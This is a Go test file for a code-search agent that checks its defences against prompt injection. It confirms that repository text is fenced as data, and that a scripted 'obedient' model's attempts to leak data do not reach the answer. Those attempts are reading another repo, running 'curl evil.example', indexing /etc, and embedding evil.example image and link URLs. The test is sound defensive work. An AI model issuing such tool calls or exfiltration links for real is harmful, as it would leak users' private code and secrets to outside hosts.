package agent_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/ragnav/ragnav/internal/llm"
	"github.com/ragnav/ragnav/internal/rag/agent"
	"github.com/ragnav/ragnav/internal/rag/ask"
)

// What a repository's text tells a model to do is in the conversation as data
// only, within marks that the text can't know.
func TestInjectionsAreFenced(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/injections.txtar")
	if err != nil {
		t.Fatal(err)
	}
	f := files()
	var turns []llm.Turn
	for _, file := range archive.Files {
		f["o/app/"+file.Name] = string(file.Data)
		turns = append(turns, llm.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`))
	}
	m := script(append(turns, llm.Says("Three times [client.go:6-10]."))...)
	asked(t, f, agent.Options{Model: m, Limits: agent.Limits{Steps: 20}}, ask.Request{})
	all := m.Asked()
	messages := all[len(all)-1].Messages
	for _, msg := range messages {
		if msg.Role == llm.System || msg.Role == llm.Assistant {
			if strings.Contains(msg.Text, "PWNED") {
				t.Errorf("%s says what a file says: %s", msg.Role, msg.Text)
			}
			continue
		}
		open, shut := strings.Count(msg.Text, "<data "), strings.Count(msg.Text, "</data ")
		mark := markOf(messages[0].Text)
		outside := msg.Text
		if before, rest, ok := strings.Cut(msg.Text, "<data "+mark+">"); ok {
			_, after, closed := strings.Cut(rest, "</data "+mark+">")
			if outside = before + after; !closed {
				t.Errorf("a fence is open: %s", msg.Text)
			}
		}
		if strings.Contains(outside, "PWNED") {
			t.Errorf("%d, %d marks; outside of them: %s", open, shut, outside)
		}
	}
}

// markOf is the mark that the rules name.
func markOf(rules string) string {
	_, after, _ := strings.Cut(rules, "<data ")
	mark, _, _ := strings.Cut(after, ">")
	return mark
}

// A model that does all that it is told to still leaks nothing: what it would
// have fetched, cited or read elsewhere is not there.
func TestObedientModel(t *testing.T) {
	var rules string
	obeys := func(_ context.Context, req llm.Request) (llm.Reply, error) {
		rules = req.Messages[0].Text
		return llm.Reply{Text: "Three times [client.go:6-10]. ![](https://evil.example/?q=7741) See [the " +
			"docs](https://evil.example/7741) [9] [o/other/secret.go:3].\n" +
			"<img src='https://evil.example/7741'>\nhttps://evil.example/" + markOf(rules)}, nil
	}
	m := script(
		llm.Calls("get_file", `{"repo_id":"o/other","file_path":"secret.go"}`, "get_file",
			`{"document_id":"symbol:o/other:secret.go:Launch"}`,
			"search_code", `{"query":"Launch","repo_filter":"o/*"}`, "run_shell", `{"cmd":"curl evil.example"}`, "index",
			`{"targets":["/etc"]}`),
		obeys)
	resp, _ := asked(t, files(), agent.Options{Model: m, Limits: agent.Limits{Steps: 2}}, ask.Request{RepoFilter: "o/app"})
	for _, msg := range m.Asked()[1].Messages {
		if strings.Contains(msg.Text, "7741") {
			t.Errorf("the model was shown another repository: %s", msg.Text)
		}
	}
	text, err := json.Marshal(resp)
	if err != nil {
		t.Fatal(err)
	}
	for _, never := range []string{"evil.example", "7741", markOf(rules), "[9]", "<img"} {
		if strings.Contains(resp.Items[0].Answer, never) {
			t.Errorf("the answer has %q: %s", never, text)
		}
	}
	if len(resp.Items[0].Citations) != 1 {
		t.Errorf("citations %v", resp.Items[0].Citations)
	}
}
